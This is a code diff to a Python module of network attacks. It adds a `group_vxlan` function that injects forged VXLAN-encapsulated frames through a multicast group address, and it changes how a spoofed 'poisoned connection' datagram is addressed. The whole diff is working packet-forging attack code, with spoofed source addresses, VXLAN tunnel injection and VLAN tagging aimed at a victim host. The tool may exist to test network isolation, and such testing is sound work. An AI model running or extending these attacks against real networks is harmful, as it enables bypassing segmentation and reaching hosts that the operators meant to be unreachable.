@@ -131,13 +131,17 @@ def plain_udp(facts: Facts) -> None:
 
 def plain_vxlan(facts: Facts) -> None:
     """A whole frame in a datagram to a node's VXLAN port: the node unwraps it and forwards what is inside."""
-    inner = ip(facts["claimed"], facts["victim"], 17, udp(40000, facts["port"], payload(facts)))
-    outer = struct.pack("!BBHI", 8, 0, 0, facts["network"] << 8) + frame(
-        mac(facts["vtep"]), b"\x02" * 6, kind_of(facts["victim"]), inner
-    )
+    outer = _wrapped(facts)
     with socket.socket(socket.AF_INET6 if ":" in facts["node"] else socket.AF_INET, socket.SOCK_DGRAM) as sender:
         for _ in range(REPEAT):
             sender.sendto(outer, (facts["node"], facts["tunnel_port"]))
+
+
+def _wrapped(facts: Facts) -> bytes:
+    """A VXLAN header and the frame behind it."""
+    inner = ip(facts["claimed"], facts["victim"], 17, udp(40000, facts["port"], payload(facts)))
+    head = struct.pack("!BBHI", 8, 0, 0, facts["network"] << 8)
+    return head + frame(mac(facts["vtep"]), b"\x02" * 6, kind_of(facts["victim"]), inner)
 
 
 # ---- with frames -----------------------------------------------------------------------------------------------------
@@ -160,7 +164,8 @@ def forged_hardware(facts: Facts) -> None:
 def poisoned_connection(facts: Facts) -> None:
     """ "The victim has written to me", told to nobody's hardware address; then a plain datagram passes as the answer."""
     lie = ip(facts["victim"], facts["own"], 17, udp(facts["port"], 40001, b"hello"))
-    send_frames(frame(b"\x02\0\0\0\0\x99", hardware(), kind_of(facts["victim"]), lie))
+    nobody = next_hop(facts) if facts["next_hop"] == "gateway" else b"\x02\0\0\0\0\x99"
+    send_frames(frame(nobody, hardware(), kind_of(facts["victim"]), lie))
     plain_udp({**facts, "target": facts["victim"], "source_port": 40001})
 
 
@@ -169,6 +174,12 @@ def vlan_tag(facts: Facts) -> None:
     packet = ip(facts["own"], facts["victim"], 17, udp(40000, facts["port"], payload(facts)))
     tag = struct.pack("!HH", 0x8100, 0)
     send_frames(frame(next_hop(facts), hardware(), kind_of(facts["victim"]), packet, tag))
+
+
+def group_vxlan(facts: Facts) -> None:
+    """The node's tunnel packets, to a group address that a bridge hands to the node by the port itself (IEEE 802.1Q)."""
+    outer = ip(facts["outer"], facts["node"], 17, udp(40000, facts["tunnel_port"], _wrapped(facts)))
+    send_frames(frame(mac(facts["group"]), hardware(), IPV4, outer))
 
 
 def icmpv6(facts: Facts) -> None:
@@ -212,6 +223,7 @@ ATTACKS: Mapping[str, Callable[[Facts], None]] = {
         forged_hardware,
         poisoned_connection,
         vlan_tag,
+        group_vxlan,
         icmpv6,
         arp_lie,
         neighbour_lie,
